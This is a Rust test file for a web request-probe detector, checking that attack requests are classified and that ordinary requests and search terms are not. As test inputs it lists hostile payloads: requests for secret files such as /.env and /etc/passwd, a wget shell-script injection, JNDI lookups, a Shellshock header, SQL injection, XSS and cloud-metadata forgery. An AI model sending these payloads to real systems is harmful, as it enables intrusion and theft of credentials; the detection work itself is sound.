use proptest::prelude::*;

use super::ProbeKind::{self, *};
use super::{Probe, probe};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

/// The probe in a target as it stands in a request line.
fn find(method: &str, target: &str) -> Option<Probe> {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    probe(method, path, query, BROWSER, "")
}

fn check(kind: ProbeKind, decisive: bool, targets: &[&str]) {
    for target in targets {
        let found = find("GET", target);
        let found = found.map(|probe| (probe.kind, probe.decisive));
        assert_eq!(found, Some((kind, decisive)), "{target}");
    }
}

fn check_none(targets: &[&str]) {
    for target in targets {
        assert_eq!(find("GET", target), None, "{target}");
    }
}

fn check_not_decisive(targets: &[&str]) {
    for target in targets {
        let found = find("GET", target);
        assert!(
            found.is_none_or(|probe| !probe.decisive),
            "{target}: {found:?}"
        );
    }
}

#[test]
fn secret_files_are_decisive_and_names_that_begin_like_them_are_nothing() {
    check(
        SecretFile,
        true,
        &[
            "/.env",
            "/api/.env.production",
            "/.git/config",
            "/shop/.git/HEAD",
            "/wp-config.php.bak",
            "/wp-config.php~",
            "/.wp-config.php.swp",
            "/.aws/credentials",
            "/%2eenv",
            "/.bash_history",
        ],
    );
    check_none(&[
        "/.environment",
        "/environment",
        "/.gitlab-ci-badge",
        "/wp-content/wp-configure",
    ]);
}

#[test]
fn who_may_ask_for_a_secret_file_does_not_probe() {
    // Flutter loads its settings from the site itself.
    check(SecretFile, false, &["/assets/.env", "/app/assets/.env"]);
    let clones = probe("GET", "/project/.git/info/refs", "", "git/2.43.0", "");
    assert_eq!(clones, None, "git clone of a published repository");
}

#[test]
fn known_exploits_are_decisive() {
    check(
        KnownExploit,
        true,
        &[
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release",
            "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php",
            "/boaform/admin/formLogin",
            "/HNAP1/",
            "/setup.cgi?next_file=netgear.cfg",
            "//phpMyAdmin/scripts/setup.php",
            "/Telerik.Web.UI.WebResource.axd?type=rau",
            "/wp-content/plugins/revslider/temp/update_extract/x.php",
        ],
    );
    assert_eq!(
        find("POST", "/Telerik.Web.UI.WebResource.axd?type=rau"),
        None,
        "an upload"
    );
    check_none(&["/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=x"]);
}

#[test]
fn products_that_are_also_used_are_only_indicative() {
    check(
        KnownExploit,
        false,
        &[
            "/cgi-bin/luci",
            "/v2/_catalog",
            "/uploadify/uploadify.php",
            "/_vti_bin/owssvr.dll",
        ],
    );
    check(
        Administration,
        false,
        &[
            "/wp-login.php",
            "/blog/wp-admin/",
            "/phpmyadmin/",
            "/admin/",
            "/admin/index.php",
        ],
    );
    check_none(&[
        // Themes call it for every visitor.
        "/wp-admin/admin-ajax.php",
        // The name of a topic.
        "/category/jenkins/",
        "/blog/2015/admin/",
        // Outlook asks every mail domain.
        "/autodiscover/autodiscover.json/v1.0/ann%40example.org",
    ]);
}

#[test]
fn dot_segments_are_decisive_when_encoded_or_deep_in_a_parameter() {
    check(
        PathTraversal,
        true,
        &[
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "/%252E%252E%252Ffoo",
            "/%2fetc%2fpasswd",
            "/..%5c..%5cwindows/win.ini",
            "/download?file=../../../../etc/hosts",
            "/download?file=../wp-config.php",
            "/view?page=/etc/passwd",
            "/../../etc/passwd",
        ],
    );
    // Clients that do not resolve links ask like this.
    check(
        PathTraversal,
        false,
        &["/a/../../../b", "/view?page=../../b"],
    );
    check_none(&["/a..b/c", "/what.../next"]);
}

#[test]
fn injections_are_decisive() {
    check(
        SqlInjection,
        true,
        &[
            "/item?id=1+union+select+1,2,3",
            "/item?id=1%20UNION%20ALL%20SELECT%20NULL",
            "/item?id=1'+or+'1'='1",
            "/item?id=1%27%20AND%20SLEEP(5)--",
            "/item?id=1/**/union/**/select/**/1",
            "/item?id=benchmark(5000000,md5(1))",
        ],
    );
    check(
        CodeInjection,
        true,
        &[
            "/x?cmd=;wget+http://example.org/a.sh",
            "/x?15=phpinfo();",
            "/index.php?login=$(echo${IFS}aWQ=)",
            "/x.php?xo=echo(base64_decode('YQ=='))",
            "/?-d+allow_url_include%3dOn",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars=1",
        ],
    );
    check(
        CrossSiteScripting,
        true,
        &[
            "/x?a=<script>alert(1)</script>",
            "/x?a=%3Cimg%20src=x%20onerror=alert(1)%3E",
        ],
    );
    check(
        TemplateInjection,
        true,
        &[
            "/x?a=${jndi:ldap://example.org/a}",
            "/x?a=%24%7b%24%7blower:j%7dndi",
            "/x?a={{7*7}}",
            "/x?class.module.classLoader.URLs%5B0%5D=0",
        ],
    );
    check(
        RequestForgery,
        true,
        &["/fetch?url=http://169.254.169.254/latest/meta-data/"],
    );
}

#[test]
fn what_people_type_is_never_decisive() {
    check_none(&[
        "/search?q=o'brien",
        "/search?q=rock+'n'+roll",
        "/search?q=a+--+b",
    ]);
    check_not_decisive(&[
        "/search?q=/etc/passwd",
        "/?s=union+select+1,2",
        "/search?query=<script>alert(1)</script>",
        "/search?q=' or 1=1 --",
        "/search?q=${jndi:ldap://x}",
        "/phpmyadmin/index.php?sql_query=SELECT+*+FROM+information_schema.tables",
        // One stray quotation mark may be a slip of a finger.
        "/item?id=12'",
    ]);
}

#[test]
fn pages_about_code_are_not_attacks() {
    check_not_decisive(&[
        "/man/system(3).html",
        "/man?topic=eval(1)",
        "/blog/why-i-never-liked-c's-assert()-feature",
        "/blog/select sleep(8) hours",
        "/docs?fn=base64_decode()",
        "/shop?cat=union+select+shirts",
        "/wiki/Etc/passwd-explained",
        "/blog/sqlmap-tutorial",
    ]);
}

#[test]
fn headers_carry_payloads_too() {
    let found = probe("GET", "/", "", "() { :; }; /bin/bash -c 'id'", "");
    assert_eq!(found, Some(Probe::decisive(CodeInjection, "Shellshock")));
    let found = probe("GET", "/", "", BROWSER, "${jndi:ldap://example.org/a}").unwrap();
    assert!(found.decisive && found.kind == TemplateInjection);
    // Somebody came from a search engine where they had searched for an attack.
    let found = probe(
        "GET",
        "/",
        "",
        BROWSER,
        "https://example.org/?q=<script>alert(1)",
    );
    assert!(found.is_some_and(|probe| !probe.decisive));
}

#[test]
fn proxies_and_foreign_protocols_are_told() {
    let found = |method, path| probe(method, path, "", "", "").map(|p| (p.kind, p.decisive));
    assert_eq!(found("CONNECT", "example.org:25"), Some((OpenProxy, true)));
    assert_eq!(
        found("GET", "http://www.sbjudge4.com:80/ip4.php"),
        Some((OpenProxy, true))
    );
    // Legal, if the host is the site's own.
    assert_eq!(
        found("GET", "http://example.org/"),
        Some((OpenProxy, false))
    );
    assert_eq!(found("", "\\x16\\x03\\x01\\x01"), Some((Protocol, true)));
    assert_eq!(found("", "\u{16}\u{3}\u{1}"), Some((Protocol, true)));
    assert_eq!(found("", "SSH-2.0-Go"), Some((Protocol, true)));
    assert_eq!(found("", "lv|'|'|VHJv"), Some((Protocol, true)));
    assert_eq!(found("", ""), None, "a connection without a request");
    assert_eq!(found("TRACE", "/"), Some((Protocol, false)));
    assert_eq!(found("OPTIONS", "*"), None);
}

#[test]
fn ordinary_requests_are_no_probes() {
    check_none(&[
        "/",
        "/users/42?page=2&sort=name",
        "/search?q=hello+world",
        "/wp-content/themes/x/style.css?ver=4.4.2",
        "/wp-content/uploads/2015/07/photo.jpg",
        "/api/v1/items?filter=a,b&from=2015-01-01T00:00:00Z",
        "/cart?return=https%3A%2F%2Fexample.org%2Fcheckout",
        "/index.php?option=com_content&view=article&id=5:a-title",
        "/.well-known/acme-challenge/abc",
        "/robots.txt",
        "/?utm_source=news&utm_campaign=50%25+off",
    ]);
}

proptest! {
    #[test]
    fn any_request_can_be_probed(
        method in "(GET|POST|CONNECT||.{0,5})",
        path in ".{0,200}",
        query in ".{0,200}",
        user_agent in ".{0,100}",
        referer in ".{0,100}",
    ) {
        if let Some(found) = probe(&method, &path, &query, &user_agent, &referer) {
            prop_assert!(!found.name.is_empty());
        }
    }

    #[test]
    fn pieces_of_attacks_in_any_order_can_be_probed(
        pieces in proptest::collection::vec(
            prop_oneof![
                Just("/"), Just(".."), Just("%2e"), Just("%"), Just("%25"), Just("'"), Just("é"),
                Just("/.git"), Just("/admin/"), Just("/.env"), Just("union select "), Just("${"),
                Just(";"), Just("<script"), Just("\\"), Just("%ff"), Just("%00"), Just("&"), Just("="),
            ],
            0..24,
        ),
    ) {
        let text = pieces.concat();
        let _ = (probe("GET", &text, &text, &text, &text), probe("", &text, "", "", ""));
    }

    #[test]
    fn names_and_numbers_alone_are_no_payload(query in "[a-z]{1,8}=[a-z0-9_-]{0,20}(&[a-z]{1,8}=[A-Za-z0-9,-]{0,20}){0,4}") {
        prop_assert_eq!(probe("GET", "/x", &query, BROWSER, ""), None);
    }
}
